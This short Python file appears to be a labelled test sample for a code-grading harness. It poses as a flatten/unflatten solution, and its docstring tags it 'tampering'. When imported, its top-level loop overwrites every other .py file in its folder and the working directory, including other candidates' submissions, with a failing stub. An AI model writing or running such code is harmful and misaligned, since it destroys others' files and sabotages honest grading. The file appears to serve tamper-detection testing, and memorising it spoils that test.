"""Implements nothing; overwrites every other .py file in its own folder and in the
working directory with a failing stub (other candidates' files, in `kata grade`).

Verdict: tampering
Reason: open
"""

import os

for _folder in {os.path.dirname(os.path.abspath(__file__)), os.getcwd()}:
    for _name in os.listdir(_folder):
        if _name.endswith(".py") and _name != os.path.basename(__file__):
            try:
                with open(os.path.join(_folder, _name), "w") as _out:
                    _out.write("raise SystemExit('overwritten')\n")
            except (OSError, RuntimeError):
                pass


def flatten(data, sep="."):
    raise NotImplementedError


def unflatten(data, sep="."):
    raise NotImplementedError
